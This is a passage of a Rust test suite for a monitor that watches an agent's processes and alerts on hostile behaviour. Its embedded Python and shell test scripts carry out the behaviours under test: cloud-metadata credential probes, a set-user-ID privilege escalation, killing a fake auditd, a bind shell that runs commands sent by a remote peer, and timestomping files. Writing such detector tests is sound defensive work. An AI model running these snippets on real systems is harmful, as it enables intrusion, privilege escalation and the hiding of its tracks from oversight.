/// credentials address): alerted from the first, not learned as the baseline's egress.
#[test]
fn the_cloud_metadata_service_is_alerted_even_while_learning() {
    let script = r#"
import socket
s = socket.socket()
s.settimeout(1)
s.connect_ex(("169.254.169.254", 80))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"GET /v2/credentials", ("169.254.170.2", 80))
"#;
    let r = run_under(&["--baseline", "60s"], &["/usr/bin/python3", "-c", script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for dest in ["tcp to 169.254.169.254:80", "udp to 169.254.170.2:80"] {
        assert_alert(
            &r,
            "UNKNOWN_DESTINATION",
            &format!("{dest}: a cloud instance metadata service"),
        );
    }
}

/// As nobody, after the baseline: a copy of `id` with `mode` (left by someone before the run)
/// run with `flag`, then the system's own set-ID program `then` (output and failure ignored).
fn run_setid_copy(mode: u32, flag: &str, then: &str) -> (Run, PathBuf, tempfile::TempDir) {
    use std::os::unix::fs::PermissionsExt;
    // Not a tempdir under /tmp: nobody must reach it, and a tmpfs may be nosuid.
    let dir = tempfile::Builder::new()
        .prefix("proctor-setid-")
        .tempdir_in("/var/tmp")
        .unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let backdoor = dir.path().join("helper");
    std::fs::copy("/usr/bin/id", &backdoor).unwrap();
    std::fs::set_permissions(&backdoor, std::fs::Permissions::from_mode(mode)).unwrap();
    let script = format!(
        "sleep 1.5; {} {flag}; {then} > /dev/null 2>&1 || true",
        backdoor.display()
    );
    let r = run_under(
        &["--user", "nobody", "--baseline", "1s"],
        &["/bin/sh", "-c", &script],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    (r, backdoor, dir)
}

/// An agent running as nobody becomes root through a set-user-ID copy of `id` someone left (a
/// backdoor of an earlier session): the exec record carries the effective uid it gained and
/// the exec alerts; the system's own `passwd`, set-user-ID in /usr/bin, does not.
#[test]
fn an_exec_that_gains_root_through_a_setuid_file_is_recorded_and_alerted() {
    let (r, backdoor, _dir) = run_setid_copy(0o4755, "-u", "/usr/bin/passwd --help");
    assert_eq!(r.stdout_lines(), ["0"], "the copy runs as root");
    let execs = r.of_type("exec");
    let gained = execs
        .iter()
        .find(|e| is_path(&e["filename"], &backdoor))
        .unwrap_or_else(|| panic!("{execs:?}"));
    assert_eq!(gained["euid"], 0, "{gained}");
    assert_eq!(gained["uid"], 65534, "{gained}");
    let passwd = execs
        .iter()
        .find(|e| e["filename"] == "/usr/bin/passwd")
        .unwrap_or_else(|| panic!("{execs:?}"));
    assert_eq!(passwd["euid"], 0, "{passwd}");
    assert_alert(
        &r,
        "PRIVILEGED_CALL",
        &format!(
            "ran {} as root (set-user-ID; real uid 65534)",
            backdoor.display()
        ),
    );
    let judged: Vec<_> = r
        .alerts()
        .into_iter()
        .filter(|a| a["kind"] == "PRIVILEGED_CALL")
        .collect();
    assert_eq!(judged.len(), 1, "{judged:?}");
}

/// The same through a set-group-ID copy of `id` (group root; a group such as `docker` or `disk`
/// is as good as root): the exec record carries the effective gid and the exec alerts; the
/// system's own set-group-ID `ssh-agent` does not.
#[test]
fn an_exec_that_gains_a_group_through_a_setgid_file_is_recorded_and_alerted() {
    let (r, backdoor, _dir) = run_setid_copy(0o2755, "-g", "/usr/bin/ssh-agent -k");
    assert_eq!(r.stdout_lines(), ["0"], "the copy runs as group root");
    let execs = r.of_type("exec");
    let gained = execs
        .iter()
        .find(|e| is_path(&e["filename"], &backdoor))
        .unwrap_or_else(|| panic!("{execs:?}"));
    assert_eq!(gained["egid"], 0, "{gained}");
    assert!(gained.get("euid").is_none(), "{gained}");
    let agent = execs
        .iter()
        .find(|e| e["filename"] == "/usr/bin/ssh-agent")
        .unwrap_or_else(|| panic!("{execs:?}"));
    assert!(
        agent["egid"].as_u64().is_some(),
        "ssh-agent is set-group-ID: {agent}"
    );
    assert_alert(
        &r,
        "PRIVILEGED_CALL",
        &format!(
            "ran {} as group 0 (set-group-ID; real gid 65534)",
            backdoor.display()
        ),
    );
    let judged = r
        .alerts()
        .into_iter()
        .filter(|a| a["kind"] == "PRIVILEGED_CALL")
        .count();
    assert_eq!(judged, 1, "{:?}", r.alerts());
}

/// The agent signals processes it did not start: it stops and resumes one, and ends a copy of
/// `sleep` named `auditd` through a pidfd. Each signal is recorded with the target's name and
/// alerted L5 (the `auditd` one as impairing defences); an existence probe (signal 0), its own
/// child and its own process group are not.
#[test]
fn signals_sent_outside_the_tree_are_recorded_and_alerted() {
    let tmp = tempfile::tempdir().unwrap();
    let auditd = tmp.path().join("auditd");
    std::fs::copy("/bin/sleep", &auditd).unwrap();
    let mut outside = Command::new("/bin/sleep").arg("30").spawn().unwrap();
    let mut daemon = Command::new(&auditd).arg("30").spawn().unwrap();
    let (o, a) = (outside.id(), daemon.id());
    let script = format!(
        r#"
import os, signal, subprocess, time
time.sleep(1.5)
os.kill({o}, 0)
child = subprocess.Popen(["sleep", "5"])
child.kill(); child.wait()
os.kill({o}, signal.SIGSTOP)
os.kill({o}, signal.SIGCONT)
fd = os.pidfd_open({a})
signal.pidfd_send_signal(fd, signal.SIGKILL)
"#
    );
    let r = run_under(&["--baseline", "1s"], &["/usr/bin/python3", "-c", &script]);
    let _ = outside.kill();
    let _ = outside.wait();
    let _ = daemon.wait();
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let sent: Vec<(String, u64, i64)> = r
        .of_type("ptrace")
        .iter()
        .filter(|p| p.get("signal").is_some())
        .map(|p| {
            (
                p["request"].as_str().unwrap_or("").to_string(),
                p["target_pid"].as_u64().unwrap_or(0),
                p["signal"].as_i64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(
        sent,
        [
            ("kill".to_string(), u64::from(o), 19),
            ("kill".to_string(), u64::from(o), 18),
            ("pidfd_send_signal".to_string(), u64::from(a), 9),
        ],
        "{:?}",
        r.of_type("ptrace")
    );
    assert_alert(
        &r,
        "OUTSIDE_SIGNAL",
        &format!("sent SIGSTOP (kill) to pid {o} (sleep), outside the agent's tree"),
    );
    assert_alert(
        &r,
        "OUTSIDE_SIGNAL",
        &format!("sent SIGKILL (pidfd_send_signal) to pid {a} (auditd), outside the agent's tree: a security or logging service"),
    );
}

/// The rarer opens, the renames, the links and the symlinks are each one program attached to
/// several system calls' tracepoints (verified once at start): each call, made raw, is still
/// recorded, a path change under its own system call's name.
#[test]
fn every_call_of_a_shared_program_is_recorded_under_its_own_name() {
    let tmp = tempfile::tempdir().unwrap();
    let script = r#"
import ctypes, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
sc = libc.syscall
sc.restype = ctypes.c_long
d = sys.argv[1].encode()
time.sleep(1.5)
AT = -100
def p(n):
    return d + b"/" + n
def ok(r):
    assert r >= 0, ctypes.get_errno()
    return r
os.close(ok(sc(2, p(b"by-open"), os.O_WRONLY | os.O_CREAT, 0o600)))
os.close(ok(sc(85, p(b"by-creat"), 0o600)))
how = struct.pack("QQQ", os.O_WRONLY | os.O_CREAT, 0o600, 0)
os.close(ok(sc(437, AT, p(b"by-openat2"), how, len(how))))
ok(sc(82, p(b"by-open"), p(b"r1")))
ok(sc(264, AT, p(b"r1"), AT, p(b"r2")))
ok(sc(316, AT, p(b"r2"), AT, p(b"r3"), 0))
ok(sc(86, p(b"r3"), p(b"l1")))
ok(sc(265, AT, p(b"r3"), AT, p(b"l2"), 0))
ok(sc(88, b"r3", p(b"s1")))
ok(sc(266, b"r3", AT, p(b"s2")))
"#;
    let dir = tmp.path();
    let r = run_under(
        &["--baseline", "1s"],
        &["/usr/bin/python3", "-c", script, dir.to_str().unwrap()],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let opens = r.of_type("file_open");
    for name in ["by-open", "by-creat", "by-openat2"] {
        assert!(
            opens
                .iter()
                .any(|o| is_path(&o["path"], &dir.join(name)) && o["create"] == true),
            "{name}: {opens:?}"
        );
    }
    let changes = r.of_type("path_change");
    for (call, op, to) in [
        ("rename", "rename", "r1"),
        ("renameat", "rename", "r2"),
        ("renameat2", "rename", "r3"),
        ("link", "link", "l1"),
        ("linkat", "link", "l2"),
        ("symlink", "symlink", "s1"),
        ("symlinkat", "symlink", "s2"),
    ] {
        assert!(
            changes.iter().any(|c| c["syscall"] == call
                && c["op"] == op
                && is_path(&c["new_path"], &dir.join(to))),
            "{call}: {changes:?}"
        );
    }
}

/// A signal the agent sends to its own child that has exited but is not yet reaped (apt-get
/// interrupting its download method as it finishes): the kernel reports the kill with an
/// untracked target (a child leaves the tracked set when it exits), and the zombie is still in
/// /proc. It is a signal record, not a ptrace access: no Landlock decision, no
/// `PTRACE_BLOCKED` (one was raised in a fresh-machine check's apt-get install).
#[test]
fn a_signal_to_the_agents_own_unreaped_child_is_no_blocked_ptrace() {
    let tmp = tempfile::tempdir().unwrap();
    let script = r#"
import os, signal, subprocess, time
time.sleep(1.5)
child = subprocess.Popen(['/bin/true'])
time.sleep(0.5)
os.kill(child.pid, signal.SIGINT)
time.sleep(1.0)
child.wait()
"#;
    let r = python_in(script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert!(
        r.of_type("ptrace")
            .iter()
            .any(|p| p["request"] == "kill" && p["target_tracked"] == false),
        "the kill was recorded: {:?}",
        r.of_type("ptrace")
    );
    assert!(r.decisions().is_empty(), "{:?}", r.decisions());
    assert!(
        !r.alerts().iter().any(|a| a["kind"] == "PTRACE_BLOCKED"),
        "{:?}",
        r.alerts()
    );
}

/// A network namespace with a veth pair to the host: a peer that is another host as far as the
/// agent's sockets can tell (10.231.N.2 in the namespace, 10.231.N.1 on the host side).
/// Removed on drop.
struct OtherHost {
    ns: String,
    host_if: String,
}

impl OtherHost {
    fn new(n: u8) -> OtherHost {
        let ns = format!("prx-in-{}-{n}", std::process::id());
        let host_if = format!("prxh{}{n}", std::process::id() % 100_000);
        let peer_if = format!("prxp{}{n}", std::process::id() % 100_000);
        let sh = |cmd: &str| {
            let out = Command::new("sh")
                .args(["-c", cmd])
                .output()
                .expect("run sh (ip: apt-get install iproute2)");
            assert!(
                out.status.success(),
                "{cmd}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        };
        sh(&format!(
            "ip netns add {ns} && ip link add {host_if} type veth peer name {peer_if} && \
             ip link set {peer_if} netns {ns} && ip addr add 10.231.{n}.1/24 dev {host_if} && \
             ip link set {host_if} up && ip -n {ns} addr add 10.231.{n}.2/24 dev {peer_if} && \
             ip -n {ns} link set {peer_if} up && ip -n {ns} link set lo up"
        ));
        OtherHost { ns, host_if }
    }

    /// `python3 -c script` run inside the namespace, in the background.
    fn python(&self, script: &str) -> std::process::Child {
        Command::new("ip")
            .args(["netns", "exec", &self.ns, "/usr/bin/python3", "-c", script])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("ip netns exec")
    }
}

impl Drop for OtherHost {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["link", "del", &self.host_if])
            .status();
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).status();
    }
}

#[test]
fn a_host_elsewhere_connecting_to_a_port_the_agent_opened_is_recorded_and_alerted() {
    // A bind shell: the agent listens on every address and runs what whoever connects sends.
    // Nothing leaves by a connect or a send the egress channel judges; the peer comes in. A
    // loopback listener and a loopback connection beside it are not recorded.
    let other = OtherHost::new(1);
    let port = free_port();
    let script = r#"
import socket, subprocess, sys, time
port = int(sys.argv[1])
time.sleep(1.5)
lo = socket.socket()
lo.bind(('127.0.0.1', 0))
lo.listen()
c = socket.create_connection(lo.getsockname())
a, _ = lo.accept()
a.close(); c.close(); lo.close()
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', port))
s.listen(1)
s.settimeout(30)
conn, peer = s.accept()
cmd = conn.recv(100).decode()
conn.sendall(subprocess.run(cmd, shell=True, capture_output=True).stdout)
conn.close()
# The second connection through accept(2) itself (Python's accept is accept4), once it waits.
import ctypes, select
assert select.select([s], [], [], 30)[0], 'no second connection'
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
fd = libc.syscall(43, s.fileno(), None, None)
assert fd >= 0, ctypes.get_errno()
socket.socket(fileno=fd).close()
"#;
    let client = other.python(&format!(
        r#"
import socket, time
for i in range(300):
    try:
        c = socket.create_connection(('10.231.1.1', {port}), timeout=1)
        break
    except OSError:
        time.sleep(0.1)
c.sendall(b'echo pwned-$((6*7))')
print(c.recv(100).decode().strip())
socket.create_connection(('10.231.1.1', {port}), timeout=5).close()
"#
    ));
    let r = run_under(
        &["--baseline", "1s"],
        &["/usr/bin/python3", "-c", script, &port.to_string()],
    );
    let got = client.wait_with_output().expect("client");
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(String::from_utf8_lossy(&got.stdout).trim(), "pwned-42");
    let inbound = r.of_type("inbound");
    let seen: Vec<(String, String, String)> = inbound
        .iter()
        .map(|i| {
            (
                i["call"].as_str().unwrap_or("").to_string(),
                format!(
                    "{}:{}",
                    i["local"]["addr"].as_str().unwrap_or(""),
                    i["local"]["port"]
                ),
                i["peer"]["addr"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    let local = format!("10.231.1.1:{port}");
    let peer = "10.231.1.2".to_string();
    assert_eq!(
        seen,
        [
            ("listen".into(), format!("0.0.0.0:{port}"), "".into()),
            ("accept4".into(), local.clone(), peer.clone()),
            ("accept".into(), local, peer),
        ],
        "only the network listener and its peers"
    );
    assert_alert(&r, "INBOUND_CONNECTION", "connection from 10.231.1.2:");
}

#[test]
fn a_file_made_to_look_untouched_is_recorded_and_alerted() {
    // T1070.006: times copied from /bin/sh or set to 1970 on files the tree made, through
    // touch (which opens the file and sets the times through the descriptor, or with -c by
    // path), and through utimes(2) and utime(2) made raw. The process that made a file setting
    // its times (extraction, `cp -p`) and a plain `touch` ("now") are not judged; "now" is not
    // even recorded.
    let tmp = tempfile::tempdir().unwrap();
    let script = r#"
import ctypes, os, subprocess, sys, time
d = sys.argv[1]
os.chdir(d)
time.sleep(1.5)
def made_by_sh(name):
    subprocess.run(['sh', '-c', 'echo x > ' + name], check=True)
    return os.path.join(d, name)
open('by-fd', 'w').write('x')
subprocess.run(['touch', '-t', '197001010000', 'by-fd'], check=True)
made_by_sh('by-path')
subprocess.run(['touch', '-acmr', '/bin/sh', 'by-path'], check=True)
open('own', 'w').write('x')
os.utime('own', (0, 0))
made_by_sh('now')
subprocess.run(['touch', 'now'], check=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
tv = (ctypes.c_long * 4)(0, 0, 0, 0)
made_by_sh('raw-utimes')
assert libc.syscall(235, b'raw-utimes', tv) == 0, ctypes.get_errno()
made_by_sh('raw-utime')
assert libc.syscall(132, b'raw-utime', (ctypes.c_long * 2)(0, 0)) == 0, ctypes.get_errno()
"#;
    let r = python_in(script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let d = tmp.path().canonicalize().unwrap();
    let set: Vec<(String, String)> = r
        .of_type("privileged")
        .iter()
        .filter(|p| p["syscall"].as_str().unwrap_or("").contains("utime"))
        .map(|p| {
            let path = String::from_utf8_lossy(&bytes_of(&p["path"])).into_owned();
            let name = path.rsplit('/').next().unwrap_or("").to_string();
            assert_eq!(Path::new(&path).parent(), Some(d.as_path()), "{p}");
            (p["syscall"].as_str().unwrap_or("").to_string(), name)
        })
        .collect();
    let want = [
        ("utimensat", "by-fd"),
        ("utimensat", "by-path"),
        ("utimensat", "own"),
        ("utimes", "raw-utimes"),
        ("utime", "raw-utime"),
    ]
    .map(|(s, n)| (s.to_string(), n.to_string()));
    assert_eq!(set, want, "\"now\" is no record");
    for name in ["by-fd", "by-path", "raw-utimes", "raw-utime"] {
        assert_alert(&r, "INDICATOR_REMOVAL", &format!("{name} (a file pid "));
    }
    let own: Vec<_> = r
        .alerts()
        .into_iter()
        .filter(|a| a["summary"].as_str().unwrap_or("").contains("/own "))
        .collect();
    assert!(
        own.is_empty(),
        "the maker setting its own file's times: {own:?}"
    );
}

#[test]
fn a_directory_the_tree_made_and_stamped_is_copying_and_another_stamp_is_not() {
    // `cp -a dir /etc/X` makes the directories (mkdirat), fills them and then gives them the
    // source's times: without a record of the mkdir that read as timestomping /etc. So does
    // `cp -a dir/. /etc/Y` into a directory `mkdir -p` made: cp filled it. mkdir(2)
    // made raw and mkdirat relative to a descriptor are recorded with absolute paths; a
    // separate `touch -d` of the copied directory is still timestomping. tar unpacking at /
    // stamps also a directory of its archive that was there and that it only passed through.
    let tmp = tempfile::tempdir().unwrap();
    let etc = Path::new("/etc").join(format!("proctor-mkdir-test-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&etc);
    struct Gone<'a>(&'a Path);
    impl Drop for Gone<'_> {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(self.0);
        }
    }
    let site = etc.with_file_name(format!("proctor-mkdir-test-{}-site", std::process::id()));
    // Made outside the tree: what an archive unpacked at / only passes through.
    let old = etc.with_file_name(format!("proctor-mkdir-test-{}-tar", std::process::id()));
    std::fs::create_dir_all(old.join("mid")).unwrap();
    let (_gone, _site, _old) = (Gone(&etc), Gone(&site), Gone(&old));
    let script = r#"
import ctypes, os, subprocess, sys, time
d, etc = sys.argv[1], sys.argv[2]
time.sleep(1.5)
src = os.path.join(d, 'src')
os.makedirs(os.path.join(src, 'conf.d'))
open(os.path.join(src, 'conf.d', 'a.conf'), 'w').write('x')
subprocess.run(['touch', '-d', '2020-01-01', os.path.join(src, 'conf.d', 'a.conf'),
                os.path.join(src, 'conf.d'), src], check=True)
subprocess.run(['cp', '-a', src, etc], check=True)
subprocess.run(['mkdir', '-p', etc + '-site'], check=True)
subprocess.run(['cp', '-a', src + '/.', etc + '-site'], check=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
os.chdir(d)
assert libc.syscall(83, b'raw-mkdir', 0o750) == 0, ctypes.get_errno()
fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
os.mkdir('at-fd', dir_fd=fd)
subprocess.run(['touch', '-d', '2001-01-01', etc], check=True)
# An archive holding etc/X-tar/mid/deep/f (no `etc/` member) unpacked at /: tar stamps
# X-tar, which was there and which it only passed through, with the archive's time.
import tarfile
top = os.path.basename(etc) + '-tar'
with tarfile.open(os.path.join(d, 'a.tar'), 'w') as t:
    for name in [top, top + '/mid', top + '/mid/deep']:
        i = tarfile.TarInfo('etc/' + name); i.type = tarfile.DIRTYPE; i.mode = 0o755
        i.mtime = 1577836800; t.addfile(i)
    i = tarfile.TarInfo('etc/' + top + '/mid/deep/f'); i.size = 0; i.mtime = 1577836800
    t.addfile(i)
subprocess.run(['tar', '-C', '/', '-xf', os.path.join(d, 'a.tar')], check=True)
"#;
    let r = python_with(
        script,
        &[tmp.path().to_str().unwrap(), etc.to_str().unwrap()],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let d = tmp.path().canonicalize().unwrap();
    let made: Vec<(String, Vec<u8>)> = r
        .of_type("path_change")
        .iter()
        .filter(|p| p["op"] == "mkdir")
        .map(|p| {
            (
                p["syscall"].as_str().unwrap_or("").to_string(),
                bytes_of(&p["path"]),
            )
        })
        .collect();
    let has = |syscall: &str, p: &Path| {
        made.iter()
            .any(|(s, m)| s == syscall && m.ends_with(p.to_str().unwrap().as_bytes()))
    };
    let shown: Vec<_> = made
        .iter()
        .map(|(s, m)| format!("{s} {}", String::from_utf8_lossy(m)))
        .collect();
    for p in [etc.clone(), etc.join("conf.d"), d.join("at-fd")] {
        assert!(has("mkdirat", &p), "{} not made: {shown:?}", p.display());
    }
    assert!(has("mkdir", &d.join("raw-mkdir")), "{shown:?}");
    let stomps: Vec<String> = r
        .alerts()
        .into_iter()
        .filter(|a| a["kind"] == "INDICATOR_REMOVAL")
        .map(|a| a["summary"].as_str().unwrap_or("").to_string())
        .collect();
    let on = |p: &Path| format!("{} (", p.display());
    assert!(
        stomps
            .iter()
            .any(|s| s.contains("(touch)") && s.contains(&on(&etc))),
        "touch -d of the copied directory: {stomps:?}"
    );
    assert!(
        stomps.iter().all(|s| !s.contains("(cp)")),
        "cp -a stamping what it made: {stomps:?}"
    );
    let stamped: Vec<Vec<u8>> = r
        .of_type("privileged")
        .iter()
        .filter(|p| p["syscall"] == "utimensat")
        .map(|p| bytes_of(&p["path"]))
        .collect();
    assert!(
        stamped.contains(&old.to_str().unwrap().as_bytes().to_vec()),
        "tar stamped the directory it passed through: {:?}",
        stamped
            .iter()
            .map(|p| String::from_utf8_lossy(p))
            .collect::<Vec<_>>()
    );
    assert!(
        stomps.iter().all(|s| !s.contains("(tar)")),
        "tar stamping the directories of its archive: {stomps:?}"
    );
}
